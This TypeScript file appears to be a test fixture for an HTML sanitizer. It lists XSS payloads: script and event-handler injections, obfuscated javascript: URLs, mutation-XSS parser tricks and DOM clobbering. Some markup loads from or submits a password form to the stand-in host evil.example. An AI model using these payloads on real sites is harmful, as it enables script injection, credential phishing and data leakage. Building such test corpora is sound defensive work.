/** Markup that would run or send something or imitate the page, in the known ways. */
const ACT = 'window.hit=(window.hit||0)+1';
const HANDLERS =
  'onload onerror onclick onfocus onblur onmouseover onpointerenter ontoggle onbegin onend onanimationstart ontransitionend onwheel onscroll oninput onpageshow oncut onauxclick onbeforematch onscrollend oncontentvisibilityautostatechange';
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'marquee',
];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  'jav&#x61;script:',
  'javascript&colon;',
  '&#106;avascript:',
  '\u0001javascript:',
  'data:text/html,<script>',
  'vbscript:',
  'blob:https://portal.invalid/',
  'view-source:javascript:',
  'feed:javascript:',
];
const LINKS = [
  'a href',
  'area href',
  'iframe src',
  'form action',
  'object data',
  'embed src',
  'base href',
  'svg><a xlink:href',
  'math><a href',
];

const PLAIN = [
  `<script>${ACT}</script>`,
  `<ScRiPt>${ACT}</sCrIpT>`,
  `<script src="/assets/x.js"></script>`,
  `<script type="module">${ACT}</script>`,
  `<scr<script>ipt>${ACT}</script>`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><script xlink:href="data:,${ACT}"></script></svg>`,
  `<math><mtext><script>${ACT}</script></mtext></math>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<iframe src="/login"></iframe>`,
  `<object data="data:text/html,<script>parent.hit=1</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${ACT}>">`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<p style="position:fixed;inset:0;background:url(https://evil.example/y)">x</p>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<link rel="prefetch" href="https://evil.example/x">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><input name="password"><button>Anmelden</button></form>`,
  `<button form="x" formaction="javascript:${ACT}">x</button>`,
  `<img src="https://evil.example/pixel.png">`,
  `<img srcset="https://evil.example/pixel.png 1x">`,
  `<picture><source srcset="https://evil.example/p.png"><img src="x"></picture>`,
  `<video poster="https://evil.example/p.png"></video>`,
  `<svg><image href="https://evil.example/p.png"></image></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${ACT}>#x"></use></svg>`,
  `<svg><animate attributeName="href" values="javascript:${ACT}"></animate><a>x</a></svg>`,
  `<svg><set attributeName="onmouseover" to="${ACT}"></set></svg>`,
  `<svg><foreignObject><img src=x onerror="${ACT}"></foreignObject></svg>`,
  `<template><script>${ACT}</script></template>`,
  `<template shadowrootmode="open"><img src=x onerror="${ACT}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
  `<textarea></textarea><img src=x onerror="${ACT}">`,
  `<title></title><img src=x onerror="${ACT}">`,
  `<xmp><p title="</xmp><img src=x onerror=${ACT}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${ACT}>"></noembed>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ACT}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ACT}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${ACT}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${ACT}></style></annotation-xml></math>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${ACT}>">`,
  `<!--><img src=x onerror=${ACT}>-->`,
  `<!--<img src="--><img src=x onerror=${ACT}//">`,
  `<![CDATA[<img src=x onerror=${ACT}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${ACT}>`,
  `<a href="/x" onclick="${ACT}" style="position:fixed" id="root" class="x" name="location">x</a>`,
  `<p id="root">x</p><p name="hit">x</p>`,
  `<a id="trustedTypes"></a><a id="trustedTypes" name="createPolicy"></a>`,
  `<dialog open><h1>Anmelden</h1></dialog>`,
  `<p popover id="p">x</p><button popovertarget="p">x</button>`,
  `<input autofocus onfocus="${ACT}">`,
  `<isindex type="image" src="x" onerror="${ACT}">`,
  `<img/src="x"/onerror="${ACT}">`,
  `<img src="x\u0000" onerror\u0000="${ACT}">`.replaceAll('\u0000', '\uFFFD'),
  `<img src=x onerror=\`${ACT}\`>`,
  `"><img src=x onerror="${ACT}">`,
  `'-alert(1)-'<svg/onload=${ACT}>`,
  `&lt;script&gt;${ACT}&lt;/script&gt;`,
  `<a href="//evil.example/">x</a>`,
  `<a href="/\\evil.example/">x</a>`,
  `<a href="https://werk.example/" target="_top" rel="opener" ping="https://evil.example/">x</a>`,
  `<table background="javascript:${ACT}"><tr><td background="https://evil.example/x">x</td></tr></table>`,
  `<applet code="x"></applet><frameset onload="${ACT}"><frame src="/login"></frameset>`,
];

export const HOSTILE: readonly string[] = [
  ...PLAIN,
  ...HANDLERS.split(' ').map((handler, at) => {
    const element = ELEMENTS[at % ELEMENTS.length];
    return `<${element} ${handler}="${ACT}">`;
  }),
  ...SCHEMES.flatMap((scheme, at) =>
    [0, 4].map((offset) => `<${LINKS[(at + offset) % LINKS.length]}="${scheme}${ACT}">x</a>`),
  ),
];

/** Closes elements that one of them leaves open, so that it swallows none of the following. */
export const CLOSE =
  '-->"\'></style></script></template></textarea></title></xmp></noembed></noscript></iframe></select></table></form></svg></math>';
